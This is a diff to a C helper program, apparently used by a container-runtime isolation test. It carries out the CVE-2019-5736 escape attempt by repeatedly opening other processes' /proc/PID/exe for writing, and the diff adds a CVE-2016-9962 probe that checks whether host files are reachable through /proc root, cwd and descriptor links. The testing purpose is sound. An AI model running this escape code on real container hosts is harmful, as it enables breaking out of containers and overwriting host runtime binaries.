@@ -1,6 +1,7 @@
 // Lurks in a container for the runtime's own processes (CVE-2019-5736): takes hold of every /proc/PID/exe that is not
 // its own file or the shell's, and tries to open it for writing, again and again, until the kernel no longer says
-// ETXTBSY.
+// ETXTBSY. With a second argument it also looks for that file of the host behind the root, working directory and
+// descriptors of every other process (CVE-2016-9962). lurker SECONDS [FILE]
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
@@ -51,6 +52,15 @@ static void catch_one(const char *pid, const struct stat *own, const struct stat
     snprintf(prey[caught++].name, sizeof prey[0].name, "%.60s", name);
 }
 
+static void reach(const char *pid, const char *file) {
+    static const char *doors[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
+    for (unsigned i = 0; i < sizeof doors / sizeof *doors; i++) {
+        char path[4096];
+        snprintf(path, sizeof path, "/proc/%.20s/%s%.3000s", pid, doors[i], file);
+        if (access(path, F_OK) == 0) printf("REACHED by %s\n", doors[i]);
+    }
+}
+
 static void strike(struct prey *one) {
     char path[64];
     if (one->fd < 0) return;
@@ -76,7 +86,10 @@ int main(int argc, char **argv) {
         DIR *proc = opendir("/proc");
         if (!proc) return 1;
         for (struct dirent *entry; (entry = readdir(proc));)
-            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') catch_one(entry->d_name, &own, &shell);
+            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') {
+                if (argc > 2) reach(entry->d_name, argv[2]);
+                else catch_one(entry->d_name, &own, &shell);
+            }
         closedir(proc);
         for (int i = 0; i < caught; i++) strike(&prey[i]);
         if (access("/stop", F_OK) == 0) { // told by the test; once more, now that everything has ended
